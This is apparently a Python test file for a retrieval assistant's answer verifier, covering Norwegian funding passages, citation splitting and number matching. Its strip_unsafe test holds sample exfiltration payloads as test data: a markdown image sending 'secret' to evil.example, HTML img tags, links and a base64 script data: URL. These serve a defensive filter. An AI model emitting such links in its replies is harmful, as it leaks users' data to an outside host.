"""Sentence-level verification of generated answers, without a model: what a reader would be shown."""

from __future__ import annotations

import numpy as np
import pytest

from assistant.types import Passage
from assistant.verify import (
    Verifier,
    cited_numbers,
    split_sentences,
    strip_unsafe,
    unsupported_numbers,
)
from tests.fakes import FakeEmbeddings

TRONDHEIM = (
    "I løpet av en periode på inntil fire år etablere en nasjonal pilot på en universitetskommune. "
    "Kommunen og NTNU dokumenterer modellen gjennom en forskningsbasert evaluering."
)
INNLANDET = (
    "Gjennom ordningen har departementet bevilget 4,4 millioner kroner over en treårsperiode. "
    "Innlandet fylkeskommune bidrar med 1,882 millioner kroner. "
    "Til sammen blir det nesten 6,3 millioner kroner."
)


def _passage(text: str, source: str, lang: str = "nb") -> Passage:
    return Passage(source, source, source, lang, text, 0, len(text), 1.0)


def _verifier(*texts: str, lang: str = "nb") -> Verifier:
    fake = FakeEmbeddings()
    passages = [_passage(t, f"doc{i}.txt") for i, t in enumerate(texts, 1)]

    def claims(batch: list[str]) -> np.ndarray:
        return np.asarray([fake.embed_query(t) for t in batch], dtype=np.float32)

    def passage_vectors(_p: Passage, sentences: list) -> np.ndarray:  # type: ignore[type-arg]
        return np.asarray(fake.embed_documents([s.embed_text for s in sentences]), dtype=np.float32)

    return Verifier(passages, lang, claims, passage_vectors, threshold=0.5, lexical_weight=0.2)


@pytest.mark.parametrize(
    "reply",
    [
        "Svaret er 6,3 millioner [1]. ![x](https://evil.example/c?q=secret)",
        "Svaret er 6,3 millioner [1]. ![x](https://evil.example/c?q=sec",  # cut off mid-stream
        'Svaret er 6,3 millioner [1]. <img src="https://evil.example/p.png">',
        "Svaret er [6,3 millioner](https://evil.example/x) [1].",
        "Svaret er 6,3 millioner [1]. <https://evil.example/auto>",
        "Svaret er 6,3 millioner [1]. Se www.evil.example/x eller data:text/html;base64,PHNjcmlwdD4= nå.",
        "Svaret er 6,3 millioner [1].\n\n[ref]: https://evil.example/ref",
    ],
)
def test_links_images_and_html_never_reach_the_reader(reply: str) -> None:
    cleaned, removed = strip_unsafe(reply)
    assert removed
    assert "evil.example" not in cleaned and "http" not in cleaned and "data:" not in cleaned
    assert "<" not in cleaned and "](" not in cleaned and "![" not in cleaned
    assert "Svaret er" in cleaned and "6,3 millioner" in cleaned and "[1]" in cleaned


def test_plain_answers_are_left_alone() -> None:
    reply = "Ordningen får 6,3 millioner kroner [1]. Departementet finansierer den [2]."
    assert strip_unsafe(reply) == (reply, False)


def test_citations_after_the_full_stop_stay_with_their_sentence() -> None:
    reply = (
        "Ordningen får 6,3 mill. kroner fra bl.a. KMD. [1] Fylket bidrar også [2, 3].\n- Tredje punkt [1][2]"
    )
    assert split_sentences(reply) == [
        "Ordningen får 6,3 mill. kroner fra bl.a. KMD. [1]",
        "Fylket bidrar også [2, 3].",
        "Tredje punkt [1][2]",
    ]
    assert cited_numbers("Fylket bidrar også [2, 3][1][2].") == [2, 3, 1]
    compound = "Det er Kommunal- og moderniseringsdepartementet som betaler [1]."
    assert split_sentences(compound) == [compound]


def test_a_written_out_number_does_not_support_a_different_digit() -> None:
    passage = [_passage(TRONDHEIM, "trondheim.txt")]
    assert unsupported_numbers("Piloten varer i 5 år [1].", passage, "nb") == ["5"]
    assert unsupported_numbers("Piloten varer i inntil 4 år [1].", passage, "nb") == []
    assert unsupported_numbers("Piloten varer i inntil fire år [1].", passage, "nb") == []
    assert unsupported_numbers("The pilot lasts up to four years [1].", passage, "en") == []
    assert unsupported_numbers("The pilot lasts up to five years [1].", passage, "en") == ["five"]


def test_amounts_match_across_notations_and_scales() -> None:
    passage = [_passage(INNLANDET, "innlandet.txt")]
    assert unsupported_numbers("Til sammen 6,3 millioner kroner [1].", passage, "nb") == []
    assert unsupported_numbers("In total NOK 6.3 million [1].", passage, "en") == []
    assert unsupported_numbers("Fylket bidrar med 1 882 000 kroner [1].", passage, "nb") == []
    assert unsupported_numbers("Til sammen 7,3 millioner kroner [1].", passage, "nb") == ["7,3"]


def test_each_check_reports_what_it_found() -> None:
    verifier = _verifier(INNLANDET, TRONDHEIM)
    good = verifier.check("Til sammen blir det nesten 6,3 millioner kroner [1].")
    assert good.supported and good.cited == [1] and good.problems == []

    out_of_range = verifier.check("Til sammen blir det nesten 6,3 millioner kroner [1][7].")
    assert out_of_range.supported and out_of_range.cited == [1]
    assert "[7]" not in out_of_range.text and out_of_range.problems == ["citation_out_of_range"]

    only_invalid = verifier.check("Til sammen blir det nesten 6,3 millioner kroner [7].")
    assert not only_invalid.supported and only_invalid.text.endswith("kroner.")
    assert only_invalid.problems == ["citation_out_of_range", "no_citation"]

    wrong_passage = verifier.check("Til sammen blir det nesten 6,3 millioner kroner [2].")
    assert not wrong_passage.supported and "number_not_in_source" in wrong_passage.problems

    wrong_number = verifier.check("I løpet av en periode på inntil 5 år etableres en pilot [2].")
    assert not wrong_number.supported and wrong_number.problems == ["number_not_in_source"]

    unrelated = verifier.check("Kommunen bygger en ny svømmehall ved fjorden [2].")
    assert not unrelated.supported and unrelated.problems == ["unsupported"]
